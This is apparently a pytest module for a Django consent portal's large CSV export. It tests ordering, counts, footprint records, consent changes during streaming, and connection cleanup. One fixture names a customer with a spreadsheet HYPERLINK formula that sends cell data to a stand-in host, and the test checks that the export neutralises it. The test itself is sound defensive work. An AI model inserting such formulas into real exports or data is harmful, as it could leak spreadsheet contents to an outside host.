"""A large export through a grant: the customers it records, the file it streams and the
footprint agree, over more customers than one ledger block or one writer batch holds.

The export records its customers in blocks of ``EXPORT_BLOCK_CUSTOMERS`` ids and streams
them from the customer table in batches (``portal.csv_export.BATCH_ROWS``); 3,200
customers, 2,133 of them exported, cross both boundaries. Runs on PostgreSQL and on
SQLite (the demo's database).
"""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import reverse

from consent.models import ConsentRecord, Purpose
from consent.services.imports import consent_state_rebuild
from customers.models.catalogue import Customer
from customers.models.exports import EXPORT_BLOCK_CUSTOMERS, Export
from customers.selectors.footprint import customer_footprint
from customers.services.exports import grant_export_start
from portal.csv_export import BATCH_ROWS, csv_chunks
from portal.models import AuditEvent
from tests.customers.conftest import EMAIL_MARKETING, consent
from tests.customers.test_grants import approved_grant
from tests.factories import CustomerFactory, DataAssetFactory

pytestmark = pytest.mark.django_db

CUSTOMERS = 3200
ELIGIBLE = 2133  # positions 0 to 3,199 not divisible by 3
FORMULA = '=HYPERLINK("http://x.example/?"&A2,"open")'


@pytest.fixture
def large_asset(owner):
    """3,200 customers; those at positions not divisible by 3 agreed to marketing e-mail
    (2,133), the one at position 3,100 is named with a formula and agreed too."""
    people = CustomerFactory.build_batch(CUSTOMERS)
    people[3100].name = FORMULA
    people = Customer.objects.bulk_create(people)
    asset = DataAssetFactory(
        owner=owner,
        name="Large list",
        customers=people,
        categories=["user.name", "user.contact.email"],
        collected_for=["essential.service"],
        classification="internal",
        classification_confirmed=True,
    )
    purpose = Purpose.objects.get(key=EMAIL_MARKETING)
    when = datetime(2025, 3, 1, 12, tzinfo=UTC)
    ConsentRecord.objects.bulk_create(
        ConsentRecord(
            customer=person,
            purpose=purpose,
            status="granted",
            source="import",
            evidence="test",
            effective_at=when,
        )
        for position, person in enumerate(people)
        if position % 3
    )
    consent_state_rebuild()
    return asset


def eligible_ids(asset) -> list[int]:
    people = list(asset.customers.order_by("id").values_list("id", flat=True))
    return sorted(pk for position, pk in enumerate(people) if position % 3)


def test_a_large_export_streams_exactly_the_eligible_customers_in_id_order_with_counts_agreeing(
    client, requester, compliance_officer, large_asset
):
    grant = approved_grant(requester, large_asset, Purpose.objects.get(key=EMAIL_MARKETING))
    expected = eligible_ids(large_asset)
    assert len(expected) == ELIGIBLE > max(EXPORT_BLOCK_CUSTOMERS, BATCH_ROWS)
    client.force_login(requester)

    response = client.get(reverse("customers:grant_export", args=[grant.pk]))

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [int(row["id"]) for row in rows] == expected  # all of them, once, in id order
    assert list(rows[0]) == ["id", "name", "email"]
    assert int(response["X-Export-Rows"]) == len(rows) == ELIGIBLE
    event = AuditEvent.objects.get(action="export.download")
    assert event.detail["rows"] == len(rows) == Export.objects.get().rows
    # The formula-named customer sits past the writer's first batch: still neutralised.
    assert [row["name"] for row in rows].index("'" + FORMULA) >= BATCH_ROWS


def test_the_footprint_names_the_export_for_a_customer_in_its_last_block_only_if_carried(
    client, requester, compliance_officer, large_asset
):
    grant = approved_grant(requester, large_asset, Purpose.objects.get(key=EMAIL_MARKETING))
    client.force_login(requester)
    response = client.get(reverse("customers:grant_export", args=[grant.pk]))
    b"".join(response.streaming_content)
    people = list(large_asset.customers.order_by("id"))
    carried, left_out = people[-1], people[-2]  # positions 3,199 and 3,198 (divisible by 3)

    [row] = customer_footprint(carried).exports
    assert (row["export_id"], row["included"]) == (response["X-Export-Id"], True)
    assert customer_footprint(left_out).exports == []


def test_the_file_carries_the_recorded_customers_even_if_consent_changes_while_it_streams(
    requester, compliance_officer, large_asset
):
    grant = approved_grant(requester, large_asset, Purpose.objects.get(key=EMAIL_MARKETING))
    expected = eligible_ids(large_asset)

    batch = grant_export_start(grant=grant, actor=requester)
    leaving = Customer.objects.get(pk=expected[-1])
    consent([leaving], status="withdrawn")
    text = "".join(csv_chunks(batch.columns, batch.rows.iterator(chunk_size=500)))

    ids = [int(row["id"]) for row in csv.DictReader(io.StringIO(text))]
    assert ids == expected and batch.count == len(ids)
    # The next export no longer carries them.
    assert grant_export_start(grant=grant, actor=requester).count == len(expected) - 1


# Committed data and autocommit, as under gunicorn: Django then keeps a healthy connection
# when the response closes (in a test's transaction it would close it).
@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_a_download_stopped_early_cancels_its_statement_and_frees_the_connection(
    client, requester, large_asset
):
    from django.db import connection
    from psycopg.pq import TransactionStatus

    grant = approved_grant(requester, large_asset, Purpose.objects.get(key=EMAIL_MARKETING))
    client.force_login(requester)
    response = client.get(reverse("customers:grant_export", args=[grant.pk]))
    pieces = iter(response.streaming_content)
    first = next(pieces)
    assert first.startswith(b"id,name,email\r\n")
    # Mid-stream: the statement is still running on the connection.
    assert connection.connection.info.transaction_status == TransactionStatus.ACTIVE

    response.close()  # what the server does when the person cancels the download

    # Checked before any query, which would otherwise wait on the held connection forever.
    assert connection.connection is not None, "the connection was closed, not freed"
    held = connection.connection.lock.locked()
    if held:
        connection.close()  # so that the test fails instead of hanging
    assert not held
    assert connection.connection.info.transaction_status != TransactionStatus.ACTIVE
    assert Customer.objects.filter(pk__in=eligible_ids(large_asset)).count() == ELIGIBLE
